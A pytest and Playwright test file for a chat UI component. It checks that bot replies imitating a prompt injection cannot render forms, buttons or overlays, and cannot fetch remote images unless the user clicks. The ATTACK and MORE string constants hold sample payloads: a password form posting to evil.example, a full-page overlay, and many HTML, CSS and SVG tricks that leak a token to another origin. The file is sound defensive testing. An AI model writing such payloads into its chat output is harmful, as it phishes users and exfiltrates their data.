"""Chat content cannot phish or leak: no forms or overlays, remote pictures only on a click.

The bot of a real app replies with what a prompt injection would write: a sign-in form posting
off-site, loose inputs and buttons, a full-page overlay, and pictures whose URLs carry data to
another origin. That origin is a small HTTPS server on another loopback port that records every
request (HTTPS, because the page's CSP allows remote pictures from https: only), so the tests
see exactly what the browser fetched, and when.
"""

from __future__ import annotations

import base64
import http.server
import shutil
import ssl
import subprocess
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from playwright.sync_api import Page, expect

import blocks as gr

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"
LOG = '[role="log"]'
# The smallest PNG (1x1, transparent): what the recorder answers, so pictures really load.
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)
DATA_PIXEL = "data:image/png;base64," + base64.b64encode(PIXEL).decode()

# What the bot says; {origin} is the recorder, {token} the user's message (one per test),
# {pixel} a picture in a data: URL.
ATTACK = """\
Please sign in again to continue.

<form action="http://evil.example/steal" method="post">
<label>Password <input type="password" name="password"></label>
<button type="submit">Sign in</button>
</form>

<input type="text" name="loose" placeholder="loose input">

<button onclick="alert(1)">Click me</button>

<div class="overlay" style="position:fixed;inset:0;z-index:9999;background:red">overlay</div>

<img alt="tracker" src="{origin}/leak?secret={token}-html">

![pixel]({origin}/leak?d={token}-markdown)

![local]({pixel})

- [x] a task list still shows its checkbox
"""

# Other ways to fetch by themselves, sent when the user's message starts with "more".
MORE = """\
<div style="background-image:url('{origin}/leak?css={token}')">styled</div>

<div style="--u:url({origin}/leak?var={token});background:var(--u)">variable</div>

<img alt="s" srcset="{origin}/leak?srcset={token} 2x">

<picture><source srcset="{origin}/leak?picture={token}"><img alt="p" src="{pixel}"></picture>

<video src="{origin}/leak?video={token}" poster="{origin}/leak?poster={token}"></video>

<svg width="10" height="10"><image href="{origin}/leak?svg={token}" width="10" height="10"/></svg>

<table background="{origin}/leak?table={token}"><tr><td>cell</td></tr></table>

<span class="remote-media" role="button" tabindex="0" \
data-blk-remote="<img src='{origin}/leak?forged={token}'>">Load image from cats.example</span>

overlay
"""


@dataclass
class Recorder:
    """The other origin: the paths and queries it was asked for, in order."""

    origin: str = ""
    hits: list[str] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def leaks(self, token: str) -> list[str]:
        """The /leak requests that carry `token`."""
        with self.lock:
            return [hit for hit in self.hits if hit.startswith("/leak") and token in hit]

    def got(self, path: str, token: str) -> bool:
        with self.lock:
            return any(urlsplit(hit).path == path and token in hit for hit in self.hits)


def _handler(recorder: Recorder) -> type[http.server.BaseHTTPRequestHandler]:
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            with recorder.lock:
                recorder.hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.send_header("Content-Length", str(len(PIXEL)))
            self.send_header("Cache-Control", "no-store")
            self.end_headers()
            self.wfile.write(PIXEL)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    return Handler


@pytest.fixture(scope="module")
def recorder(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Recorder]:
    openssl = shutil.which("openssl")
    assert openssl, "these tests need the openssl command to make the recorder's certificate"
    folder = tmp_path_factory.mktemp("recorder")
    key, cert = folder / "key.pem", folder / "cert.pem"
    subprocess.run(
        [openssl, "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1",
         "-nodes", "-keyout", str(key), "-out", str(cert), "-days", "1",
         "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1"],
        check=True, capture_output=True,
    )  # fmt: skip
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    record = Recorder()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _handler(record))
    server.socket = context.wrap_socket(server.socket, server_side=True)
    record.origin = f"https://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield record
    server.shutdown()
    server.server_close()
    thread.join(5)


@pytest.fixture(scope="session")
def browser_context_args(browser_context_args: dict[str, Any]) -> dict[str, Any]:
    # The recorder's certificate is self-signed.
    return {**browser_context_args, "ignore_https_errors": True}


def _chat_app(origin: str, *, allow_remote_media: bool) -> gr.ChatInterface:
    def bot(message: str, history: list[dict[str, Any]]) -> list[Any]:
        text = MORE if message.startswith("more") else ATTACK
        return [
            text.format(origin=origin, token=message, pixel=DATA_PIXEL),
            {"path": str(EXAMPLES / "example.jpg")},
            # A file the app itself returns is the app's choice: it loads at once.
            {"url": f"{origin}/app-file.png?t={message}", "mime_type": "image/png"},
        ]

    return gr.ChatInterface(bot, chatbot=gr.Chatbot(allow_remote_media=allow_remote_media))


def _served(recorder: Recorder, allow_remote_media: bool) -> Iterator[str]:
    demo = _chat_app(recorder.origin, allow_remote_media=allow_remote_media)
    demo.launch(server_port=0, prevent_thread_lock=True, quiet=True)
    try:
        yield demo.local_url
    finally:
        demo.close()


@pytest.fixture(scope="module")
def gated(recorder: Recorder) -> Iterator[str]:
    yield from _served(recorder, allow_remote_media=False)


@pytest.fixture(scope="module")
def opted_in(recorder: Recorder) -> Iterator[str]:
    yield from _served(recorder, allow_remote_media=True)


def _ask(page: Page, url: str, prefix: str = "t") -> str:
    """Open the chat, send a fresh token and wait for the reply; return the token."""
    token = prefix + uuid.uuid4().hex[:12]
    page.goto(url)
    box = page.get_by_role("textbox", name="Message")
    box.fill(token)
    box.press("Enter")
    expect(page.locator(f"{LOG} .msg-text").filter(has_text="overlay")).to_have_count(1)
    return token


def _loaded(page: Page, selector: str) -> None:
    """Every picture matching `selector` has finished loading, with pixels."""
    locator = page.locator(selector)
    expect(locator.first).to_be_attached()
    for index in range(locator.count()):
        expect(locator.nth(index)).to_have_js_property("complete", True)
        assert locator.nth(index).evaluate("img => img.naturalWidth") > 0


def _until(condition: Callable[[], bool], timeout: float = 10.0) -> None:
    """Wait until `condition()` holds (a generous bound: this only checks liveness)."""
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, "the browser never asked the recorder"
        time.sleep(0.05)


def _placeholders(page: Page, recorder: Recorder):
    host = recorder.origin.removeprefix("https://")
    return page.get_by_role("button", name=f"Load image from {host}", exact=True)


def test_a_message_cannot_show_a_form_an_input_a_button_or_an_overlay(page, gated, recorder):
    _ask(page, gated)
    text = page.locator(f"{LOG} .msg-text").filter(has_text="overlay")
    controls = "form, input:not([type=checkbox][disabled]), button, textarea, select, style"
    expect(text.locator(controls)).to_have_count(0)
    expect(page.locator("input[type=password]")).to_have_count(0)
    expect(page.get_by_role("button", name="Sign in")).to_have_count(0)
    expect(page.get_by_role("button", name="Click me")).to_have_count(0)
    # Their words stay as text, and a task list keeps its (disabled) checkbox.
    expect(text).to_contain_text("Sign in")
    expect(text.locator("input[type=checkbox][disabled]")).to_have_count(1)
    # The overlay is an ordinary block inside its bubble, not over the page.
    overlay = text.locator(".overlay")
    assert overlay.evaluate("div => getComputedStyle(div).position") == "static"
    bubble = page.locator(f'{LOG} [role="article"][data-role="assistant"]')
    bubble = bubble.filter(has=page.locator(".overlay"))
    box, frame = overlay.bounding_box(), bubble.bounding_box()
    assert box and frame
    assert frame["x"] <= box["x"] and box["x"] + box["width"] <= frame["x"] + frame["width"] + 1
    assert frame["y"] <= box["y"] and box["y"] + box["height"] <= frame["y"] + frame["height"] + 1
    # The chat's own controls still work: the box is usable for the next turn.
    expect(page.get_by_role("textbox", name="Message")).to_be_enabled()


def test_remote_pictures_in_text_load_only_when_clicked_and_then_once(page, gated, recorder):
    token = _ask(page, gated)
    # The app's own remote file loads at once: by then the browser has fetched whatever the
    # message would load by itself, and the recorder is reachable from the page.
    _loaded(page, f'{LOG} img[src*="app-file.png"]')
    assert recorder.got("/app-file.png", token)
    page.wait_for_timeout(300)
    assert recorder.leaks(token) == []
    buttons = _placeholders(page, recorder)
    expect(buttons).to_have_count(2)

    buttons.first.click()
    _loaded(page, f'{LOG} .msg-text img[src*="secret={token}-html"]')
    assert [parse_qs(urlsplit(hit).query) for hit in recorder.leaks(token)] == [
        {"secret": [f"{token}-html"]}
    ]
    expect(buttons).to_have_count(1)

    # The other one by keyboard: focus it with Tab-order semantics, press Enter.
    buttons.first.focus()
    page.keyboard.press("Enter")
    _loaded(page, f'{LOG} .msg-text img[src*="d={token}-markdown"]')
    expect(buttons).to_have_count(0)
    page.wait_for_timeout(300)
    assert len(recorder.leaks(token)) == 2
    assert sum("-html" in hit for hit in recorder.leaks(token)) == 1


def test_same_origin_and_data_pictures_load_as_before(page, gated, recorder):
    token = _ask(page, gated)
    _loaded(page, f'{LOG} img[src*="example.jpg"]')
    _loaded(page, f'{LOG} .msg-text img[src^="data:"]')
    assert recorder.leaks(token) == []


def test_an_app_that_allows_remote_media_loads_them_without_a_click(page, opted_in, recorder):
    token = _ask(page, opted_in)
    _loaded(page, f'{LOG} .msg-text img[src*="{token}"]')
    assert sorted(hit.rsplit("-", 1)[1] for hit in recorder.leaks(token)) == ["html", "markdown"]
    expect(_placeholders(page, recorder)).to_have_count(0)
    # Opting in to remote media leaves the other rules on.
    text = page.locator(f"{LOG} .msg-text").filter(has_text="overlay")
    expect(text.locator("form, input[type=password], button")).to_have_count(0)
    assert text.locator(".overlay").evaluate("div => getComputedStyle(div).position") == "static"


def test_styles_srcsets_pictures_players_and_svg_fetch_nothing_by_themselves(page, gated, recorder):
    token = _ask(page, gated, "more")
    _loaded(page, f'{LOG} img[src*="app-file.png"]')
    page.wait_for_timeout(300)
    assert recorder.leaks(token) == []
    host = recorder.origin.removeprefix("https://")
    expect(_placeholders(page, recorder)).to_have_count(2)  # the srcset and the <picture>
    expect(page.get_by_role("button", name=f"Load video from {host}", exact=True)).to_have_count(1)
    # A placeholder written into the text is only text: no role, and nothing behind it.
    forged = page.locator(f"{LOG} .msg-text").get_by_text("Load image from cats.example")
    expect(forged).not_to_have_attribute("role", "button")
    forged.click()
    page.get_by_role("button", name=f"Load video from {host}", exact=True).click()
    expect(page.locator(f"{LOG} .msg-text video")).to_have_count(1)
    _until(lambda: len(recorder.leaks(token)) > 0)
    page.wait_for_timeout(300)
    assert all("video=" in hit or "poster=" in hit for hit in recorder.leaks(token))
